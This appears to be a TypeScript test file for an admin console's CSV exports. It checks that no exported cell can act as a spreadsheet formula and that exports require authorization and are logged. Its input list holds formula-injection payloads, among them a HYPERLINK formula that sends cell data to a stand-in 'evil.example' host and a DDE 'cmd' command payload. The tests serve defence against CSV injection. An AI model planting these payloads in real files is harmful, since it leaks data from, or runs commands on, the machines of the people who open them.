import { expect, it } from 'vitest';
import { readCsv } from '../../src/base/csv/test-reader.ts';
import type { AssignmentEntry, ReviewEntry } from '../../src/server/api/access-types.ts';
import type { EventsAnswer } from '../../src/server/api/types.ts';
import { newEmail } from './person.ts';
import { onEachColumn } from './stage.ts';
import { Visitor } from './visitor.ts';

const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"open")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  'x;=1+1;"',
  'x\t=1+1',
  'x\r\n=1+1',
  'x,=1+1',
  '\u200B=1+1',
];
/** What a reader of tables takes away before it looks at a cell. */
const isFormula = (cell: string): boolean =>
  /^[=+\-@]/.test(cell.normalize('NFKC').replace(/^[\s\p{Z}\p{C}"]+/u, ''));

onEachColumn('files of the console', (stage) => {
  const file = async (path: string): Promise<{ headers: Headers; text: string }> => {
    const answer = await fetch(`http://127.0.0.1:${stage.server().port}${path}`, {
      headers: { authorization: `Bearer ${stage.server().key}` },
    });
    const text = await answer.text();
    if (answer.status !== 200) throw new Error(`${path} answered ${answer.status}: ${text}`);
    return { headers: answer.headers, text };
  };
  const make = async <T>(path: string, body: unknown): Promise<T> => {
    const answer = await stage.server().ask<T>('POST', path, body);
    if (answer.status !== 201) throw new Error(`${path} answered ${JSON.stringify(answer)}`);
    return answer.body;
  };

  it('A72: no cell of a file is a formula, whatever people wrote and however a program splits it', async () => {
    const subject = `sample:${newEmail('f').replaceAll(/[^a-z0-9]/g, '')}`;
    for (const reason of FORMULAS) {
      const { id } = await make<AssignmentEntry>('/admin/access/assignments', {
        subject,
        role: 'customer',
        reason,
      });
      await stage.server().ask('DELETE', `/admin/access/assignments/${id}`);
    }
    await make<AssignmentEntry>('/admin/access/assignments', { subject, role: 'customer', reason: '=1' });
    const review = await make<ReviewEntry>('/admin/access/reviews', {
      name: '=cmd|x',
      reviewer: '@reviewer',
      dueAtMs: Date.now() + 86_400_000,
    });
    const line = { kind: 'assignment', decision: 'keep', note: '+1;-1' };
    const { body } = await stage
      .server()
      .ask<{ lines: readonly { target: string }[] }>('GET', `/admin/access/reviews/${review.id}`);
    await stage.server().ask('POST', `/admin/access/reviews/${review.id}/decisions`, {
      ...line,
      target: body.lines[0]?.target,
    });
    for (const path of [
      `/admin/access/assignments.csv?all=true&subject=${encodeURIComponent(subject)}`,
      '/admin/access/reviews.csv',
      `/admin/access/reviews/${review.id}/lines.csv`,
      '/admin/events.csv?type=ROLE_ASSIGNED&type=ACCESS_REVIEW_DECIDED',
    ]) {
      const { headers, text } = await file(path);
      expect(headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(headers.get('content-disposition')).toMatch(
        /^attachment; filename="rampart-[a-z-]+[\d-]+\.csv"$/,
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('cache-control')).toContain('no-store');
      for (const separator of [',', ';', '\t']) {
        const cells = readCsv(text.replace('\uFEFF', ''), separator).flat();
        expect([path, separator, cells.filter(isFormula)]).toEqual([path, separator, []]);
      }
    }
    const table = readCsv((await file(`/admin/access/assignments.csv?all=true&subject=${subject}`)).text);
    const reasons = table.slice(1).map((row) => row[2] ?? '');
    const plain = (text: string): string => text.replaceAll("'", '');
    expect(reasons.map(plain).toSorted()).toEqual([...FORMULAS, '=1'].map(plain).toSorted());
  });

  it('A65: nobody takes a file without the right to its list, and who takes one is written down', async () => {
    const nobody = new Visitor(stage.server().port);
    for (const path of ['/admin/access/assignments.csv', '/admin/access/reviews.csv', '/admin/events.csv'])
      expect([path, (await nobody.get(path)).status]).toEqual([path, 401]);
    expect((await stage.server().ask('GET', '/admin/events.csv?limit=5')).status).toBe(400);
    expect((await stage.server().ask('GET', '/admin/access/reviews/none/lines.csv')).status).toBe(404);
    await file('/admin/access/assignments.csv?role=customer');
    const { body } = await stage
      .server()
      .ask<EventsAnswer>('GET', '/admin/events?type=LIST_EXPORTED&limit=1');
    expect(body.events[0]).toMatchObject({
      actor: 'operator',
      subject: 'assignments',
      details: { role: 'customer' },
    });
  });
});
